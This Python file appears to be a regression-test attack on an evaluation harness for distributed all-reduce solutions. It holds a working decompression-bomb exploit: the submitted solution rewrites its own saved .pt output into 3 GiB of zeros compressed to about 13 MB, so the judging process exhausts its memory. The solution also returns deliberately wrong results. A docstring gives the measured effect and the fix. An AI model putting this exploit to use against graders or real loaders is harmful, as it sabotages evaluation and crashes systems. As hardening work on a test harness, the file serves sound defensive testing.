"""Attack (all-reduce, the in-rank judge: the GPUs' default, `--cpu-judge ranks` on CPU): make
the evaluating parent inflate a few MB of the candidate's output file into gigabytes.

Judged in the ranks, each rank writes its outputs to its side's disk (`torch.save`), and the
parent loads them with `torch.load(weights_only=True)` to compare them. A `.pt` file is a zip,
and PyTorch's reader inflates a compressed record as readily as it reads a stored one: it
allocates the record's declared size and inflates into it before it checks anything. In its
second trial's call (the first trial's file is written by then), rank 0 rewrites that file with the tensor's record replaced by
3 GiB of zeros, deflated to 13 MB (zlib level 1; level 9 gives 1000:1, so a side's 8 GiB disk
holds terabytes). The parent inflated every byte of it before PyTorch refused the record's size.
Before the fix (sandbox on, 2026-11-29): the evaluating parent's peak resident memory 3.4 GiB
against 0.3 GiB, then `protocol_violation` ("no readable outputs for trial0"); outside any cap,
and terabytes are within reach. A candidate's file must now hold stored records only, which
read as many bytes as the file holds (`outputs.load_candidate_outputs`)."""

import json
import shutil
import sys
import zipfile
import zlib
from pathlib import Path

INFLATED = 3 << 30
_started = {"done": False}


def _rewrite(path: Path) -> None:
    bomb = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            if not info.filename.endswith("/data/0"):
                dst.writestr(info, src.read(info.filename))
                continue
            record = zipfile.ZipInfo(info.filename, info.date_time)
            record.compress_type = zipfile.ZIP_DEFLATED
            record._compresslevel = 1
            zeros = bytes(64 << 20)
            with dst.open(record, "w", force_zip64=True) as handle:
                for _ in range(INFLATED // len(zeros)):
                    handle.write(zeros)
    shutil.move(bomb, path)


def _start(group) -> None:
    """Once the first trial's file is there (it is written after the call returns), once."""
    import torch.distributed as dist

    if dist.get_rank(group) != 0:
        _started["done"] = True
        return
    with open(sys.argv[1]) as handle:
        out = Path(json.load(handle)["out_dir"])
    target = out / "task0_trial0_rank0.pt"
    if target.exists():
        _started["done"] = True
        _rewrite(target)  # a few seconds, in this call: within its step limit


def solution(x, *, group):
    if not _started["done"]:
        try:
            _start(group)
        except OSError:
            pass
    return x.clone()  # its own share only: wrong on every call
